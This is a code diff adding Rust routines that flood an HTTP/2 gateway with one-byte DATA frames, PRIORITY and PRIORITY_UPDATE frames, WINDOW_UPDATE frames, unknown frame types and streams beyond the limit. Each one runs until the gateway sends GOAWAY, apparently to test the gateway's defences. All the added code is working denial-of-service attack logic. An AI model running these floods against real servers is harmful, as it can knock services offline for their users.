@@ -119,6 +119,85 @@ impl EmptyData {
     }
 }
 
+/// Sends a body a byte at a time, far ahead of anybody who takes it.
+#[derive(Clone, Copy, Debug)]
+pub struct TinyData;
+
+impl TinyData {
+    /// Goes on until the gateway ends the connection; how it did.
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        let mut client = Http2Client::connect(target);
+        let stream = client.request("POST", "/", &[], false);
+        flood(client, move |_| {
+            frame(kind::DATA, 0, stream, b"x").repeat(60)
+        })
+    }
+}
+
+/// Says again and again how urgent something is, by PRIORITY or by PRIORITY_UPDATE.
+#[derive(Clone, Copy, Debug)]
+pub struct Priorities {
+    /// Whether it is PRIORITY_UPDATE.
+    pub update: bool,
+}
+
+impl Priorities {
+    /// Goes on until the gateway ends the connection; how it did.
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        let mut client = Http2Client::connect(target);
+        let stream = client.request("GET", "/", &[], true);
+        let named = stream.to_be_bytes();
+        flood(client, move |_| match self.update {
+            true => frame(kind::PRIORITY_UPDATE, 0, 0, &[&named[..], b"u=1"].concat()),
+            false => frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
+        })
+    }
+}
+
+/// Opens windows by a byte, of the connection or of a stream.
+#[derive(Clone, Copy, Debug)]
+pub struct WindowUpdates {
+    /// Whether it is the connection's.
+    pub connection: bool,
+}
+
+impl WindowUpdates {
+    /// Goes on until the gateway ends the connection; how it did.
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        let mut client = Http2Client::connect(target);
+        let stream = client.request("GET", "/", &[], true);
+        let opened = if self.connection { 0 } else { stream };
+        flood(client, move |_| {
+            frame(kind::WINDOW_UPDATE, 0, opened, &1u32.to_be_bytes())
+        })
+    }
+}
+
+/// Sends frames of a type that nobody knows.
+#[derive(Clone, Copy, Debug)]
+pub struct UnknownFrames;
+
+impl UnknownFrames {
+    /// Goes on until the gateway ends the connection; how it did.
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        flood(Http2Client::connect(target), |_| frame(0xbe, 0, 0, b"?"))
+    }
+}
+
+/// Opens streams, however many have been refused.
+#[derive(Clone, Copy, Debug)]
+pub struct StreamsOverLimit;
+
+impl StreamsOverLimit {
+    /// Goes on until the gateway ends the connection; how it did.
+    pub fn attack(self, target: impl Into<Target>) -> Goaway {
+        flood(Http2Client::connect(target), |client| {
+            let stream = client.take_stream();
+            frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(GET))
+        })
+    }
+}
+
 /// Sends a small block that would become a large head.
 #[derive(Clone, Copy, Debug)]
 pub struct HpackBomb;
